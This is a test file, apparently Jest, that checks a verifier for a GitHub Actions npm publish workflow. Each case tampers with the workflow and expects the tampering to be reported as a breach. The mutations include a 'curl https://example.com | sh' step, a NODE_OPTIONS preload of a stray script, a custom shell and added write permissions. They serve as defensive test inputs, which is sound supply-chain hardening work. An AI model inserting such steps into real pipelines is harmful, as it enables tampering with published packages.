import { workflowTexts } from '../../src/github/workflow';
import { workflowBreaches } from '../../src/verify/workflow';

const { 'publish.yml': publish = '', ...others } = workflowTexts();

it('one workflow may publish, and no other', () => {
	for (const text of Object.values(others)) expect(text).not.toMatch(/npm publish/);
	expect(workflowBreaches(publish)).toEqual([]);
});

const NPM_CI = '      - run: npm ci\n';
const JOB = '    environment: npm\n';
const SHELL = '--access public\n';

it.each([
	['an action of others', 'actions/checkout@', 'others/checkout@', 'check'],
	['a job more', 'jobs:\n', 'jobs:\n  other:\n    steps:\n      - run: npm publish\n', 'other'],
	['tests in a job that may publish', 'contents: read', 'id-token: write', 'check'],
	['a job that may write', 'contents: read', 'contents: write', 'check'],
	[
		'a publication that may write contents',
		'id-token: write',
		'id-token: write\n      contents: write',
		'publish',
	],
	[
		'a publication that checks out',
		'      - uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1\n        with:\n          name: package\n          path: package\n',
		'      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n',
		'publish',
	],
	['a publication without provenance', ' --provenance', '', 'publish'],
	['a publication without reviewers', JOB, '', 'publish'],
	['a publication that does not wait', '    needs: [check, pack, describe]\n', '', 'publish'],
	['a publication after a failed check', JOB, `${JOB}    if: always()\n`, 'publish'],
	['a publication of what was not checked', 'test "$PACKED" = "$CHECKED" && ', '', 'publish'],
	[
		'a hash of the publication itself',
		'${{ needs.check.outputs.sums }}',
		'${{ needs.pack.outputs.sums }}',
		'publish',
	],
	[
		'packages of another run',
		'          path: package\n',
		'          path: package\n          run-id: 5\n',
		'publish',
	],
	['a package without tests', NPM_CI + '      - run: npm test\n', NPM_CI, 'check'],
	[
		'a check that may fail',
		'run: npm run verify\n',
		'run: npm run verify\n        continue-on-error: true\n',
		'check',
	],
	[
		'a check that is left out',
		'run: npm run verify\n',
		'run: npm run verify\n        if: false\n',
		'check',
	],
	[
		'a command more',
		`- id: sums\n`,
		'- run: curl https://example.com | sh\n      - id: sums\n',
		'check',
	],
	[
		'a packed file of another folder',
		'- id: sums\n',
		'- run: npm pack ./other\n      - id: sums\n',
		'check',
	],
	['no comparison of tag and version', /.*The tag is the version\n.*\n/, '', 'pack'],
	['a release page without bills of materials', ' description/*.cdx.json', '', 'release'],
	['a cache', 'package-manager-cache: false', 'package-manager-cache: true', 'check'],
	[
		'variables of all jobs',
		'permissions: {}\n',
		'permissions: {}\nenv:\n  NODE_OPTIONS: --import=./x.js\n',
		'all jobs',
	],
	['variables of a job', JOB, `${JOB}    env:\n      NODE_OPTIONS: --import=./x.js\n`, 'publish'],
	[
		'variables of a step',
		'PACKAGE: ${{',
		'NODE_OPTIONS: --import=./x.js\n          PACKAGE: ${{',
		'publish',
	],
	['another shell', SHELL, `${SHELL}        shell: bash x {0}\n`, 'publish'],
	['a container', JOB, `${JOB}    container: others/x\n`, 'publish'],
	['another trigger', 'on:\n', 'on:\n  workflow_dispatch:\n', 'all jobs'],
	[
		'a branch',
		"      - '[0-9]+.[0-9]+.[0-9]+'\n",
		"      - '[0-9]+.[0-9]+.[0-9]+'\n    branches: [main]\n",
		'all jobs',
	],
	['any tag', "'[0-9]+.[0-9]+.[0-9]+'", "'**'", 'all jobs'],
])('%s is a breach', (_name, from, to, where) => {
	const changed = publish.replace(from, () => to);
	expect(changed).not.toBe(publish);
	expect(workflowBreaches(changed)).toEqual([expect.stringMatching(`^${where}: found `)]);
});
